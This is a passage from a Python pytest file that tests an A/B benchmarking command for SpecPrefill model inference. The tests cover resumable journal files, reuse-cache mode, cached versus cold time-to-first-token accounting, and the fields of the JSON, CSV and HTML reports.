    assert data["summary"]["spec"]["0.1"]["speedup"] == pytest.approx(5.0)  # over the journal's baselines
    assert data["summary"]["spec"]["0.5"]["speedup"] == pytest.approx(20.0 / 6.0)
    header, *records = journal_lines(tmp_path / "ab.journal.jsonl")
    assert (
        header["keeps"] == ["0.1", "0.5"] and [list(r["spec"]) for r in records[-3:]] == [["0.1", "0.5"]] * 3
    )
    assert (
        cmd_ab(
            parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(report), "--resume"),
            NEVER,
        )
        == 0
    )
    assert fake_loader[2].calls == []  # every case now holds every keep


def test_ab_resume_with_an_added_keep_counts_only_the_chosen_cases(suite_path, tmp_path, fake_loader, capsys):
    report = tmp_path / "ab.html"
    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.5", "--report", str(report)), NEVER) == 0
    capsys.readouterr()
    assert (
        cmd_ab(
            parse_ab(
                "--suite",
                str(suite_path),
                "--keep",
                "0.1,0.5",
                "--report",
                str(report),
                "--resume",
                "--cases",
                "etchant",
                "--json",
            ),
            NEVER,
        )
        == 0
    )
    _, err = capsys.readouterr()
    assert "3 finished cases, 1 of which will run only the keeps the journal lacks (0.1)" in err
    assert [(question, settings.keep) for _, question, _, settings in fake_loader[1].calls] == [
        ("etchant?", 0.1)
    ]
    assert (
        cmd_ab(
            parse_ab(
                "--suite",
                str(suite_path),
                "--keep",
                "0.1,0.5",
                "--report",
                str(report),
                "--resume",
                "--cases",
                "etchant",
                "--json",
            ),
            NEVER,
        )
        == 0
    )
    assert (
        "3 finished cases will not run again" in capsys.readouterr().err
    )  # the others lack 0.1, not etchant
    assert fake_loader[2].calls == []


def test_a_resumed_suite_scores_its_finished_cases_again(suite_path):
    cases = load_suite(suite_path)
    first = run_suite_report(FakeEngine(), cases, ["0.5"], RunSettings())

    def graded_the_other_way(run):  # as if an older grader had scored it
        return replace(run, correct=None if run.correct is None else not run.correct)

    flipped = {
        r.id: replace(
            r,
            baseline=graded_the_other_way(r.baseline),
            spec={k: graded_the_other_way(run) for k, run in r.spec.items()},
        )
        for r in first.cases
    }
    engine = FakeEngine()
    events = list(run_suite(engine, cases, ["0.5"], RunSettings(), finished=flipped))
    assert engine.calls == []  # nothing ran again
    again = events[-1].report
    assert [(r.baseline.correct, r.spec["0.5"].correct) for r in again.cases] == [
        (r.baseline.correct, r.spec["0.5"].correct) for r in first.cases
    ]
    assert any(r.baseline.correct is not None for r in again.cases)


def test_reuse_cache_resumed_with_an_added_keep_runs_no_baseline(suite_path):
    cases = load_suite(suite_path)
    first = run_suite_report(FakeEngine(), cases, ["0.5"], RunSettings(), reuse_cache=True)
    engine = FakeEngine()
    events = list(
        run_suite(
            engine,
            cases,
            KEEPS,
            RunSettings(),
            reuse_cache=True,
            finished={case.id: case for case in first.cases},
        )
    )
    assert [(question, mode, settings.keep) for _, question, mode, settings in engine.calls] == [
        ("grid?", "spec", 0.1),
        ("etchant?", "spec", 0.1),
        ("summary?", "spec", 0.1),
    ]
    report = events[-1].report
    assert [case.baseline for case in report.cases] == [case.baseline for case in first.cases]
    assert [case.spec["0.5"] for case in report.cases] == [case.spec["0.5"] for case in first.cases]
    progress = [e for e in events if isinstance(e, AbProgress)]
    assert [p.runs_done for p in progress] == [0, 1, 2] and progress[-1].runs_total == 3


def test_a_journal_made_with_more_keeps_than_asked_for_is_refused(suite_path, tmp_path):
    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings())
    path = tmp_path / "ab.journal.jsonl"
    start_journal(path, JournalHeader.of(suite_path, KEEPS, report.environment.settings), report.cases)
    assert list(
        read_journal(path, JournalHeader.of(suite_path, [*KEEPS, "auto"], report.environment.settings))
    )
    with pytest.raises(AbError, match=r"keeps '0\.1,0\.5' \(now '0\.5,auto'\)"):
        read_journal(path, JournalHeader.of(suite_path, ["0.5", "auto"], report.environment.settings))


def test_ab_journal_without_an_output_file_goes_to_the_cache(suite_path, fake_loader, cache_home, capsys):
    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5"), NEVER) == 0
    (journal,) = (cache_home / "specprefill" / "ab-journals").glob("suite-*.journal.jsonl")
    assert f"finished cases go to {journal}" in capsys.readouterr().err
    assert len(journal_lines(journal)) == 1 + 3


def test_ab_command_refuses_a_read_only_output_folder_before_loading_models(
    suite_path, tmp_path, fake_loader, make_read_only
):
    out = tmp_path / "out"
    out.mkdir()
    make_read_only(out)
    with pytest.raises(AbError, match=rf"cannot write {out / 'ab.html'}: Permission denied"):
        cmd_ab(parse_ab("--suite", str(suite_path), "--report", str(out / "ab.html")), NEVER)
    assert fake_loader == []


def test_ab_help_says_where_the_journal_goes(capsys):
    with pytest.raises(SystemExit):
        parse_ab("--help")
    assert "OUT.journal.jsonl beside --report" in " ".join(capsys.readouterr().out.split())


def test_a_journal_line_cut_short_by_a_kill_is_ignored(suite_path, tmp_path):
    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings())
    header = JournalHeader.of(suite_path, KEEPS, report.environment.settings)
    path = tmp_path / "ab.journal.jsonl"
    start_journal(path, header, report.cases[:1])
    append_case(path, report.cases[1])
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(json.dumps(report.cases[2].to_json())[:40])  # the kill came mid-write
    assert list(read_journal(path, header)) == ["grid", "etchant"]
    assert read_journal(path, header)["grid"] == report.cases[0]


# -- --reuse-cache: one document session per document ------------------------------------------
# Without the flag the report's JSON must keep exactly these keys (checks outside the repo read them).
ONE_SHOT_SUMMARY_KEYS = {"n_cases", "keeps", "baseline", "spec", "by_kind"}
ONE_SHOT_BASELINE_SUMMARY_KEYS = {
    "accuracy",
    "n_scored",
    "mean_ttft_s",
    "mean_tokenize_s",
    "mean_target_prefill_s",
}
ONE_SHOT_SPEC_SUMMARY_KEYS = ONE_SHOT_BASELINE_SUMMARY_KEYS | {
    "agreement",
    "mean_draft_s",
    "mean_select_s",
    "mean_kept_fraction",
    "speedup",
    "n_bypassed",
}
ONE_SHOT_ENVIRONMENT_KEYS = {
    "target",
    "draft",
    "device",
    "n_ctx",
    "restore_supported",
    "positions_requested",
    "positions_used",
    "threads",
    "versions",
    "platform",
    "date",
    "settings",
}
ONE_SHOT_CSV_HEADER = (
    "case_id,kind,run,keep,answer,correct,agreement,ttft_s,tokenize_s,draft_s,select_s,"
    "target_prefill_s,prompt_tokens,prefill_tokens,kept_fraction,positions,bypassed,"
    "bypass_reason,generated_tokens,stop_reason,error"
)


def run_keys(case: dict) -> set[str]:
    return {key for _, run in [("baseline", case["baseline"]), *case["spec"].items()] for key in run}


def test_without_reuse_cache_the_json_and_csv_keep_their_fields(suite_path):
    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings())
    data = report.to_json()
    summary = data["summary"]
    assert set(summary) == ONE_SHOT_SUMMARY_KEYS
    interval = {"accuracy_low", "accuracy_high"}  # there exactly when the group has scored cases
    for group in [summary, *summary["by_kind"].values()]:
        for run, keys in [
            (group["baseline"], ONE_SHOT_BASELINE_SUMMARY_KEYS),
            *((s, ONE_SHOT_SPEC_SUMMARY_KEYS) for s in group["spec"].values()),
        ]:
            assert set(run) == keys | (interval if run["n_scored"] else set())
    assert set(data["environment"]) == ONE_SHOT_ENVIRONMENT_KEYS
    assert not any("served_by" in run_keys(case) for case in data["cases"])
    assert render_csv(report).splitlines()[0] == ONE_SHOT_CSV_HEADER
    assert "cached" not in render_html(report).lower()


def test_reuse_cache_asks_each_documents_baselines_first_in_one_session(suite_path):
    engine = FakeEngine()
    events = list(run_suite(engine, load_suite(suite_path), KEEPS, RunSettings(), reuse_cache=True))
    asked = [(question, mode, settings.keep) for _, question, mode, settings in engine.calls]
    # A SpecPrefill run evicts the document's prefix: both xfig baselines run before its keeps.
    assert asked == [
        ("grid?", "baseline", 0.2),
        ("etchant?", "baseline", 0.2),
        ("grid?", "spec", 0.1),
        ("grid?", "spec", 0.5),
        ("etchant?", "spec", 0.1),
        ("etchant?", "spec", 0.5),
        ("summary?", "baseline", 0.2),
        ("summary?", "spec", 0.1),
        ("summary?", "spec", 0.5),
    ]
    assert [e.record.id for e in events if isinstance(e, AbCaseDone)] == ["grid", "etchant", "summary"]
    report = events[-1].report
    assert [case.id for case in report.cases] == ["grid", "etchant", "summary"]
    assert [case.baseline.result.served_by for case in report.cases] == [
        "cold_full",
        "cached_full",
        "cold_full",
    ]
    assert {run.result.served_by for case in report.cases for run in case.spec.values()} == {"spec"}
    progress = [e for e in events if isinstance(e, AbProgress)]
    assert [p.runs_done for p in progress] == list(range(9)) and progress[-1].runs_total == 9


def test_reuse_cache_keeps_cached_ttfts_out_of_the_cold_means(suite_path, tmp_path, fake_loader, capsys):
    table = tmp_path / "ab.csv"
    argv = ("--suite", str(suite_path), "--keep", "0.1,0.5", "--csv", str(table), "--json", "--reuse-cache")
    assert cmd_ab(parse_ab(*argv), NEVER) == 0
    data = json.loads(capsys.readouterr().out)
    baselines = [case["baseline"] for case in data["cases"]]
    assert [run["served_by"] for run in baselines] == ["cold_full", "cached_full", "cold_full"]
    cold = [run["ttft_s"] for run in baselines if run["served_by"] == "cold_full"]
    cached = [run["ttft_s"] for run in baselines if run["served_by"] == "cached_full"]
    summary = data["summary"]["baseline"]
    assert summary["mean_ttft_s"] == pytest.approx(sum(cold) / len(cold)) == pytest.approx(20.0)
    assert summary["n_cached"] == 1 and summary["cached_mean_ttft_s"] == pytest.approx(
        sum(cached) / len(cached)
    )
    assert summary["accuracy"] == 1.0 and summary["n_scored"] == 2  # accuracy counts the cached run too
    low = data["summary"]["spec"]["0.1"]
    assert low["n_cached"] == 0 and low["cached_mean_ttft_s"] is None
    assert low["speedup"] == pytest.approx(20.0 / 4.0)  # cold baseline mean over cold SpecPrefill mean
    number = data["summary"]["by_kind"]["number"]["baseline"]  # grid (cold) and etchant (cached)
    assert number["mean_ttft_s"] == pytest.approx(10.0) and number["n_cached"] == 1
    assert data["environment"]["reuse_cache"] is True
    rows = list(csv.DictReader(table.open(encoding="utf-8")))
    assert [(r["case_id"], r["served_by"], r["ttft_kind"]) for r in rows if r["run"] == "baseline"] == [
        ("grid", "cold_full", "cold"),
        ("etchant", "cached_full", "cached"),
        ("summary", "cold_full", "cold"),
    ]


def test_reuse_cache_labels_cached_ttfts_in_the_table_progress_and_html(
    suite_path, tmp_path, fake_loader, capsys
):
    html = tmp_path / "ab.html"
    assert (
        cmd_ab(
            parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(html), "--reuse-cache"),
            NEVER,
        )
        == 0
    )
    out, err = capsys.readouterr()
    assert "baseline: TTFT 2.00 s (cached: full prefill from the cache)" in err
    assert "baseline: TTFT 10.00 s\n" in err  # a cold run carries no label
    head, baseline_row = out.splitlines()[1:3]
    assert head.split()[-5:] == ["cached", "runs", "cached", "mean", "TTFT"]
    assert baseline_row.split()[-3:] == ["1", "2.00", "s"] and "20.00 s" in baseline_row
    assert "over cold runs only" in out
    page = html.read_text(encoding="utf-8")
    assert "cached: full prefill from the cache" in page and "cached mean TTFT" in page


def test_reuse_cache_goes_on_after_a_case_fails_and_its_follow_up_runs_cold(suite_path):
    events = list(
        run_suite(FakeEngine(fail_on="grid?"), load_suite(suite_path), KEEPS, RunSettings(), reuse_cache=True)
    )
    report = events[-1].report
    grid, etchant, summary = report.cases
    assert grid.failed and "40000 tokens" in grid.error
    assert etchant.baseline.result.served_by == "cold_full" and not summary.failed
    assert report.summary.overall.n_errors == 1
    progress = [e for e in events if isinstance(e, AbProgress)]
    assert progress[-1].runs_total == 9 - 3  # the failed case's runs left the total


def test_resume_refuses_a_change_of_reuse_cache(suite_path, tmp_path, fake_loader):
    argv = ("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(tmp_path / "ab.html"))
    assert cmd_ab(parse_ab(*argv), NEVER) == 0
    with pytest.raises(AbError, match=r"it was made with reuse_cache False \(now True\)"):
        cmd_ab(parse_ab(*argv, "--resume", "--reuse-cache"), NEVER)
    assert cmd_ab(parse_ab(*argv, "--reuse-cache"), NEVER) == 0  # started over with the flag
    with pytest.raises(AbError, match=r"it was made with reuse_cache True \(now False\)"):
        cmd_ab(parse_ab(*argv, "--resume"), NEVER)
    assert cmd_ab(parse_ab(*argv, "--resume", "--reuse-cache"), NEVER) == 0
    assert len(fake_loader) == 3  # the refusals came before loading the models


def test_a_journal_written_before_reuse_cache_resumes_without_it(suite_path, tmp_path):
    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings())
    header = JournalHeader.of(suite_path, KEEPS, report.environment.settings)
    old = header.to_json()
    del old["reuse_cache"]
    path = tmp_path / "old.journal.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in [old, report.cases[0].to_json()]))
    assert list(read_journal(path, header)) == ["grid"]
    with pytest.raises(AbError, match="reuse_cache False"):
        read_journal(path, JournalHeader.of(suite_path, KEEPS, report.environment.settings, reuse_cache=True))


def test_a_journal_written_before_a_setting_existed_resumes_at_its_default(suite_path, tmp_path):
    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings())
    header = JournalHeader.of(suite_path, KEEPS, report.environment.settings)
    old = header.to_json()
    del old["settings"]["first_scored_layer"]
    path = tmp_path / "old.journal.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in [old, report.cases[0].to_json()]))
    assert list(read_journal(path, header)) == ["grid"]
    later = JournalHeader.of(suite_path, KEEPS, settings_record(RunSettings(first_scored_layer=12)))
    with pytest.raises(AbError, match=r"first_scored_layer 0 \(now 12\)"):
        read_journal(path, later)


@pytest.mark.parametrize(
    ("name", "before"), [("named_files", "off"), ("score_question", False), ("question_words", 0.0)]
)
def test_a_journal_written_before_a_setting_resumes_only_as_the_code_before_it_ran(
    suite_path, tmp_path, name, before
):
    # Before named_files no file was kept first, before score_question the look-ahead alone scored, before
    # question_words the draft alone ranked the chunks: those
    # cases ran as the old value does, not as the setting's default.
    old_settings = RunSettings(**{name: before})
    header = JournalHeader.of(suite_path, KEEPS, settings_record(old_settings))
    old = header.to_json()
    del old["settings"][name]
    path = tmp_path / "old.journal.jsonl"
    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, old_settings)
    path.write_text("".join(json.dumps(line) + "\n" for line in [old, report.cases[0].to_json()]))
    assert list(read_journal(path, header)) == ["grid"]
    now = getattr(RunSettings(), name)
    assert now != before
    with pytest.raises(AbError, match=rf"{name} {before!r} \(now {now!r}\)"):
        read_journal(path, JournalHeader.of(suite_path, KEEPS, settings_record(RunSettings())))


def test_a_reuse_cache_report_reads_back_unchanged(suite_path):
    report = run_suite_report(FakeEngine(), load_suite(suite_path), KEEPS, RunSettings(), reuse_cache=True)
    data = json.loads(json.dumps(report.to_json()))
    assert AbReport.from_json(data) == report and AbReport.from_json(data).to_json() == data
